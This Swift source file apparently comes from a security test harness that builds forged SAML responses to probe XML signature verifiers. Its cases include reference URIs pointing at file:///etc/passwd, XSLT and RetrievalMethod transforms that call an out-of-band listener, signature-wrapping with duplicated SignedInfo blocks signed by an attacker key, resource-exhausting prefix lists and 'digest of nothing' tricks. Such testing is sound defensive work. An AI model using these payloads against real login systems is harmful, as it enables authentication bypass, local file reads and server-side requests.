import Foundation

extension Forgery {
    private static func prefixes(_ name: String, _ list: String) -> Forgery {
        changed(name, "signature-shape") { draft in
            draft.assertionSigning?.transforms[1] =
                "<ds:Transform Algorithm=\"\(Names.canonical)\"><InclusiveNamespaces xmlns=\"\(Names.canonical)\" "
                + "PrefixList=\"\(list)\"></InclusiveNamespaces></ds:Transform>"
        }
    }

    /// References to something else, and transforms that leave something else.
    static let references: [Forgery] = [
        .changed("an empty URI", "signature-shape") { $0.assertionSigning?.uri = " URI=\"\"" },
        .changed("no URI", "signature-shape") { $0.assertionSigning?.uri = "" },
        .changed("an xpointer to the root", "signature-shape") { $0.assertionSigning?.uri = " URI=\"#xpointer(/)\"" },
        .changed("an xpointer to the ID", "signature-shape") {
            $0.assertionSigning?.uri = " URI=\"#xpointer(id('\($0.assertionID)'))\""
        },
        .changed("an address by http", "signature-shape") {
            $0.assertionSigning?.uri = " URI=\"\(SilentListener.shared.url)\""
        },
        .changed("a file", "signature-shape") { $0.assertionSigning?.uri = " URI=\"file:///etc/passwd\"" },
        .changed("another element", "signature-shape") { $0.assertionSigning?.uri = " URI=\"#\($0.responseID)\"" },
        // Each prefix is looked for at each element, before anything is verified.
        prefixes("a list of prefixes without end", String(repeating: "b ", count: 4000)),
        prefixes("a long name in the list of prefixes", String(repeating: "b", count: 5000)),
        .changed("a type of reference", "signature-shape") {
            $0.assertionSigning?.uri = " Type=\"http://www.w3.org/2000/09/xmldsig#Manifest\" URI=\"#\($0.assertionID)\""
        },
        information("two references") { information in
            let reference = information.range(of: "<ds:Reference.*</ds:Reference>", options: .regularExpression)
            return information + (reference.map { String(information[$0]) } ?? "")
        },
        Forgery("two SignedInfo, the signed one first", "signature-shape") {
            try twoInformations($0, signedFirst: true)
        },
        Forgery("two SignedInfo, the signed one last", "signature-shape") {
            try twoInformations($0, signedFirst: false)
        },
        information("two DigestValues") {
            $0.replacing(first: "<ds:DigestValue>", with: "<ds:DigestValue>AAAA</ds:DigestValue><ds:DigestValue>")
        },
        Forgery("a comment inside of the DigestValue", "signature-shape") {
            // The comment is not signed, as it is dropped on the way to the signature.
            try $0.xml().replacing(first: "<ds:DigestValue>", with: "<ds:DigestValue><!--AAAA-->")
        },
        transforms(
            "XPath that removes the subject",
            [xpath("not(ancestor-or-self::*[local-name()='Subject'])")]),
        transforms("XPath that removes everything", [xpath("false()")]),
        transforms(
            "XPath filter that removes everything",
            [
                "<ds:Transform Algorithm=\"http://www.w3.org/2002/06/xmldsig-filter2\">"
                    + "<f:XPath xmlns:f=\"http://www.w3.org/2002/06/xmldsig-filter2\" Filter=\"intersect\">/none</f:XPath>"
                    + "</ds:Transform>"
            ]),
        transforms(
            "a style sheet",
            [
                "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\">"
                    + "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\">"
                    + "<xsl:template match=\"/\"><xsl:copy-of select=\"document('\(SilentListener.shared.url)')\"/>"
                    + "</xsl:template></xsl:stylesheet></ds:Transform>"
            ]),
        transforms("base64", ["<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#base64\"></ds:Transform>"]),
        .changed("no transforms", "signature-shape") { $0.assertionSigning?.transforms = [] },
        .changed("only enveloped", "signature-shape") {
            $0.assertionSigning?.transforms = [Signing().transforms[0]]
        },
        .changed("only canonicalisation", "signature-shape") {
            $0.assertionSigning?.transforms = [Signing().transforms[1]]
        },
        .changed("the two the other way round", "signature-shape") {
            $0.assertionSigning?.transforms = Signing().transforms.reversed()
        },
        .changed("a thousand transforms", "signature-shape") {
            $0.assertionSigning?.transforms = Array(repeating: Signing().transforms[1], count: 1000)
        },
        .changed("canonicalisation with comments", "signature-shape") {
            $0.assertionSigning?.transforms[1] =
                "<ds:Transform Algorithm=\"\(Names.canonical)WithComments\"></ds:Transform>"
        },
        .changed("inclusive canonicalisation", "signature-shape") {
            $0.assertionSigning?.transforms[1] =
                "<ds:Transform Algorithm=\"http://www.w3.org/TR/2001/REC-xml-c14n-20010315\"></ds:Transform>"
        },
        .changed("SignedInfo canonicalised with comments", "signature-shape") {
            $0.assertionSigning?.canonicalization =
                "<ds:CanonicalizationMethod Algorithm=\"\(Names.canonical)WithComments\"></ds:CanonicalizationMethod>"
        },
        .changed("a RetrievalMethod by http", "signature") {
            $0.assertionSigning = Signing(
                key: Identity.attacker.key,
                keyInfo: "<ds:KeyInfo><ds:RetrievalMethod Type=\"http://www.w3.org/2000/09/xmldsig#X509Data\" "
                    + "URI=\"\(SilentListener.shared.url)\"></ds:RetrievalMethod></ds:KeyInfo>")
        },
        Forgery("a manifest in an Object", "signature-shape") {
            $0.response(
                $0.assertion(
                    signature: try $0.genuineSignature().appendingInside(
                        "<ds:Object><ds:Manifest></ds:Manifest></ds:Object>")))
        },
        Forgery("text between the parts", "signature-shape") {
            try $0.xml().replacing(first: "<ds:SignatureValue>", with: "text<ds:SignatureValue>")
        },
    ]

    /// Canonicalisation that fails, and in some libraries yields nothing: the digest of nothing is known to everybody.
    static let voidCanonicalization: [Forgery] = [
        .changed("a relative namespace in the assertion", "namespace") {
            $0.namespaces = " xmlns:a=\"relative\""
        },
        .changed("a relative namespace, and the digest of nothing", "namespace") {
            $0.namespaces = " xmlns:a=\"./1\""
            $0.assertionSigning?.digested = ""
        },
        information("a relative namespace in SignedInfo", "namespace") {
            $0.replacing(first: "<ds:CanonicalizationMethod ", with: "<ds:CanonicalizationMethod xmlns:a=\"relative\" ")
        },
        Forgery("a relative namespace on the root", "namespace") {
            try $0.xml().replacing(first: "<samlp:Response ", with: "<samlp:Response xmlns:a=\"relative\" ")
        },
        .changed("the digest of nothing", "signature") { $0.assertionSigning?.digested = "" },
    ]

    private static func transforms(_ name: String, _ more: [String]) -> Forgery {
        .changed(name, "signature-shape") { draft in
            draft.assertionSigning?.transforms += more
            draft.assertionSigning?.digested = ""
        }
    }

    private static func xpath(_ expression: String) -> String {
        "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath>\(expression)</ds:XPath>"
            + "</ds:Transform>"
    }

    private static func twoInformations(_ draft: Draft, signedFirst: Bool) throws -> String {
        let forged = draft.forged
        let genuine = try draft.genuineSignature()
        let evil = try Signing(key: Identity.attacker.key).signature(of: forged.assertion(), id: forged.assertionID)
        func information(_ signature: String) -> String {
            signature.range(of: "<ds:SignedInfo>.*</ds:SignedInfo>", options: .regularExpression).map {
                String(signature[$0])
            } ?? ""
        }
        let both = signedFirst ? information(genuine) + information(evil) : information(evil) + information(genuine)
        return draft.response(
            forged.assertion(signature: genuine.replacing(first: information(genuine), with: both)))
    }
}
